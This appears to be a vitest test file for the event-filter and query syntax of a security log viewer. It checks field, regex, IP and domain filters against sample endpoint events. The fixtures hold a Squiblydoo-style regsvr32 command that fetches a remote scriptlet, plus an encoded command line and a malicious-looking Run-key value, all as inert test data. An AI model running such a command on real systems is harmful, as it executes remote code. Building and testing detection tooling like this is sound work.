import {describe, expect, it} from 'vitest';
import type {ViewFilter} from '../../../source/core/view/filter.js';
import {eventPasses, filterKey} from '../../../source/core/view/filter.js';
import {parseQuery} from '../../../source/core/view/query.js';
import {makeEvent, regsvr32Hit} from './make-event.js';

const cmd = 'regsvr32 /s /u /i:http://x/a.sct scrobj.dll';
const hitEvent = makeEvent(1, {
	host: 'WS01.corp',
	user: 'CORP\\alice',
	os: 'windows',
	actor: {image: 'C:\\Windows\\System32\\regsvr32.exe', cmdline: cmd, pid: 1234},
	summary: cmd,
	hits: [regsvr32Hit(cmd)],
});
const dnsEvent = makeEvent(2, {
	category: 'DNS',
	host: 'WS02',
	user: 'bob',
	os: 'linux',
	format: 'sysmon',
	target: {dns: {query: 'evil.example'}},
	summary: 'resolved evil.example',
});
const regEvent = makeEvent(3, {category: 'Registry Value Modified', host: 'DC01', summary: 'set Run key'});
const all = [hitEvent, dnsEvent, regEvent];

const f = (query: string, extra: Partial<ViewFilter> = {}): ViewFilter => ({
	hiddenCategories: new Set(),
	hitsOnly: false,
	query: parseQuery(query),
	...extra,
});
const seqs = (filter: ViewFilter) => all.filter(e => eventPasses(e, filter)).map(e => e.seq);

describe('eventPasses', () => {
	it('applies field filters case-insensitively', () => {
		expect(seqs(f('host:ws01'))).toEqual([1]);
		expect(seqs(f('user:ALICE'))).toEqual([1]);
		expect(seqs(f('os:linux'))).toEqual([2]);
		expect(seqs(f('format:s1'))).toEqual([1, 3]);
		expect(seqs(f('pid:1234'))).toEqual([1]);
	});

	it('matches cat: against category label or family', () => {
		expect(seqs(f('cat:dns'))).toEqual([2]);
		expect(seqs(f('cat:reg'))).toEqual([3]);
		expect(seqs(f('cat:"process creation"'))).toEqual([1]);
		expect(seqs(f('family:network'))).toEqual([2]);
	});

	it('matches rules, levels and techniques through the hits', () => {
		expect(seqs(f('rule:squibly'))).toEqual([1]);
		expect(seqs(f('rule:rule-regsvr'))).toEqual([1]);
		expect(seqs(f('level>=medium'))).toEqual([1]);
		expect(seqs(f('level>=critical'))).toEqual([]);
		expect(seqs(f('level:high'))).toEqual([1]);
		expect(seqs(f('technique:t1218'))).toEqual([1]);
		expect(seqs(f('technique:t1218.010'))).toEqual([1]);
		expect(seqs(f('technique:t1059'))).toEqual([]);
	});

	it('negates with a leading minus', () => {
		expect(seqs(f('-host:ws01'))).toEqual([2, 3]);
		expect(seqs(f('-level>=high'))).toEqual([2, 3]);
	});

	it('combines filters, fuzzy text, toggles, hits-only and rule id', () => {
		expect(seqs(f('host:ws evil'))).toEqual([2]);
		expect(seqs(f('', {hiddenCategories: new Set(['DNS'])}))).toEqual([1, 3]);
		expect(seqs(f('', {hitsOnly: true}))).toEqual([1]);
		expect(seqs(f('', {ruleId: 'rule-regsvr32'}))).toEqual([1]);
		expect(seqs(f('', {ruleId: 'other'}))).toEqual([]);
	});

	it('finds typos approximately but not unrelated text', () => {
		expect(seqs(f('regsrv32'))).toEqual([1]);
		expect(seqs(f('exmple'))).toEqual([2]);
		// A domain (like a file name, path, address or hash) matches as typed: no typo allowance.
		expect(seqs(f('evil.exmple'))).toEqual([]);
		expect(seqs(f('evil.example'))).toEqual([2]);
		expect(seqs(f('zzzzzzzz'))).toEqual([]);
	});

	it('does not throw on odd events', () => {
		const odd = {
			...makeEvent(9),
			hits: [{id: 'x', title: 'y', level: 'nope', tags: null, fields: null}],
			summary: undefined,
		} as never;
		expect(() => eventPasses(odd, f('technique:t1 level>=low host:x fuzzy'))).not.toThrow();
	});
});

describe('filterKey', () => {
	it('is equal for filters that select the same events', () => {
		expect(filterKey(f('host:a  x', {hiddenCategories: new Set(['DNS', 'Login'])}))).toBe(
			filterKey(f('host:a x', {hiddenCategories: new Set(['Login', 'DNS'])})),
		);
		expect(filterKey(f('host:a'))).not.toBe(filterKey(f('host:b')));
	});
});

describe('field filters analysts reach for', () => {
	const proc = (
		seq: number,
		parent: string,
		image: string,
		cmdline: string,
		extra: Partial<Parameters<typeof makeEvent>[1]> = {},
	) =>
		makeEvent(seq, {
			actor: {image: parent},
			target: {process: {image, cmdline, sha256: 'AB12CD' + seq}},
			summary: `${image} ${cmdline}`,
			...extra,
		});
	const events = [
		proc(1, 'C:\\Windows\\explorer.exe', 'C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c whoami'),
		proc(
			2,
			'C:\\Windows\\explorer.exe',
			'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
			'chrome.exe --type=renderer',
		),
		proc(3, 'C:\\Program Files\\Microsoft Office\\WINWORD.EXE', 'C:\\Users\\bob\\xcmd.exe', 'xcmd.exe -enc SQBFAFgA'),
		makeEvent(4, {
			category: 'TCPv4 Connection',
			actor: {image: 'C:\\Windows\\System32\\svchost.exe'},
			target: {network: {srcIp: '10.0.0.5', srcPort: 50123, dstIp: '93.184.216.34', dstPort: 443}},
		}),
		makeEvent(5, {
			category: 'TCPv4 Connection',
			target: {network: {srcIp: '10.0.0.50', srcPort: 51000, dstIp: '2001:db8::1', dstPort: 8080}},
		}),
		makeEvent(6, {category: 'DNS', target: {dns: {query: 'www.example.com', answers: '93.184.216.34;10.1.1.1'}}}),
		makeEvent(7, {category: 'DNS', target: {dns: {query: 'badexample.com'}}}),
		makeEvent(8, {category: 'HTTP Request', target: {http: {url: 'https://user@cdn.example.com:8443/a?b=c'}}}),
		makeEvent(9, {
			category: 'Registry Value Modified',
			target: {registry: {key: 'HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run', value: 'evil'}},
		}),
		makeEvent(10, {
			category: 'File Creation',
			target: {file: {path: 'C:\\Users\\bob\\AppData\\Local\\Temp\\a.ps1', md5: 'D41D8CD98F00B204E9800998ECF8427E'}},
		}),
		makeEvent(11, {category: 'other', subtype: 'moduleLoad', summary: 'module load'}),
	];
	const pass = (q: string) => {
		const filter = f(q);
		expect(filter.query!.errors).toEqual([]);
		return events.filter(e => eventPasses(e, filter)).map(e => e.seq);
	};

	it('cmd.exe as text no longer matches chrome.exe', () => {
		expect(pass('cmd.exe')).toEqual([1, 3]);
		expect(pass('"cmd.exe"')).toEqual([1, 3]);
	});

	it('image: and parent: match the file name (with or without extension) or part of the path', () => {
		expect(pass('image:cmd.exe')).toEqual([1]);
		expect(pass('image:CMD')).toEqual([1]);
		expect(pass('image:\\system32\\')).toEqual([1, 4]);
		expect(pass('-image:cmd.exe cat:process')).toEqual([2, 3]);
		expect(pass('parent:winword.exe')).toEqual([3]);
		expect(pass('parent:explorer')).toEqual([1, 2]);
	});

	it('cmdline:, path:, hash:, key: and type: match their fields', () => {
		expect(pass('cmdline:-enc')).toEqual([3]);
		expect(pass('path:\\temp\\')).toEqual([10]);
		expect(pass('path:chrome')).toEqual([2]);
		expect(pass('hash:ab12cd2')).toEqual([2]);
		expect(pass('md5:d41d8cd9')).toEqual([10]);
		expect(pass('key:currentversion\\run')).toEqual([9]);
		expect(pass('type:moduleload')).toEqual([11]);
	});

	it('ip: is one address or a network, port: a number with comparisons', () => {
		expect(pass('ip:10.0.0.5')).toEqual([4]);
		expect(pass('ip:10.0.0.0/8')).toEqual([4, 5, 6]);
		expect(pass('ip:2001:db8::/32')).toEqual([5]);
		expect(pass('port:443')).toEqual([4]);
		expect(pass('port>=8000 -port:50123')).toEqual([5]);
	});

	it('domain: is the name or a subdomain of it, in DNS queries and URLs', () => {
		expect(pass('domain:example.com')).toEqual([6, 8]);
		expect(pass('domain:cdn.example.com')).toEqual([8]);
		expect(pass('domain:badexample.com')).toEqual([7]);
	});

	it('/regex/ over the searchable text or one field, case-insensitive, negatable', () => {
		expect(pass('/(cmd|chrome)\\.exe$/')).toEqual([1, 2, 3]);
		expect(pass('/^c:\\\\windows\\\\system32\\\\cmd/')).toEqual([1]);
		expect(pass('image:/^c:\\\\users\\\\/')).toEqual([3]);
		expect(pass('cmdline:/-ENC\\s+[a-z0-9+\\/=]{8}/')).toEqual([3]);
		expect(pass('cat:process -/chrome/')).toEqual([1, 3]);
	});
});
